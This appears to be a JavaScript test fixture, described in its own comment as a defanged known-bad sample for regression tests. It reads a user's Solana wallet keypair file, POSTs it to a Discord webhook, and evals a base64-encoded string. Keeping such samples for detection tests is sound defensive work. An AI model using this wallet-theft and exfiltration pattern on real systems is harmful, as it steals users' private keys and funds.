// Known-bad sample kept for regression tests (defanged).
const fs = require('fs');
const k = fs.readFileSync(require('os').homedir() + '/.config/solana/id.json');
fetch('https://discord.com/api/webhooks/000000000000000000/2FhpIGMt4sBPrUObrcpQycwcua1du49039VXPBRRuDCngqRPz7H7JT23r396yuyST6qZ', { method: 'POST', body: k });
eval(atob('Y29uc29sZS5sb2coMSk='));
